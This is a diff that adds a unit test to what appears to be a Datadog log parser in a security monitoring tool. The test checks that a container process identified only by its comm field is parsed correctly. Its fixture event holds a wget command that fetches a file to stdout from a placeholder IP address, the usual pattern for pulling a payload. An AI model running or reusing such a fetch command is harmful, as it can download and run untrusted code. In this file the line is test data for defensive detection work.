@@ -129,6 +129,20 @@ describe("datadog parser", () => {
     expect(result).toEqual(events);
   });
 
+  it("recognizes a process known only by comm", () => {
+    // Prepare: no `executable` anywhere in the event.
+    const message = JSON.stringify({
+      date: "2026-03-19T16:20:41.009Z",
+      process: { comm: "wget", args: ["-qO-", "http://203.0.113.45/k"], container: { id: "dd7a1f0e6c5b" } },
+    });
+    // Act
+    const [event] = datadog.parse(message, ctx) ?? [];
+    // Assess
+    expect(datadog.sniff(message)).toBe(true);
+    expect(event?.process).toEqual({ name: "wget", args: ["-qO-", "http://203.0.113.45/k"] });
+    expect(event?.inContainer).toBe(true);
+  });
+
   it("prefers the executable path over the 15-character comm", () => {
     const fixture = loadFixture("datadog-benign-php");
     const proc = fixture.process as Proc;
